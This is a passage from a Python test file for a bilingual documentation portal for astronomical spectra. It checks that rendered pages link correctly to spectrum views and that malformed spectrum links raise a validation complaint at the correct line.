    pages = folder.render("lrs")
    for lang in ("en", "zh"):
        body = pages[lang, "docs/guide/a.html"]["body"]
        assert 'href="../../spectrum.html?obsid=101001&amp;set=lrs"' in body
        assert 'href="../../spectrum.html"' in body
        assert 'href="spectrum.html?obsid=101001&amp;set=lrs"' in pages[lang, "help.html"]["body"]
    for wrong in ("spectrum.html?", "spectrum.html?obsid=", "object.html?position=1,100x", "spectrum.html?x"):
        folder.write("content/guide/a.md", f"# A\n\n[s]({wrong})")
        (complaint,) = folder.complaints()
        assert "does not say what to show" in complaint and "line 3" in complaint
        assert any("does not say what to show" in str(p) for p in check_documents(load_portal(folder.path)))


WITH_SPECTRA = """
name = "DR1"
published = "2020"
spectra = [{ name = "lrs", source = "files" }]
"""
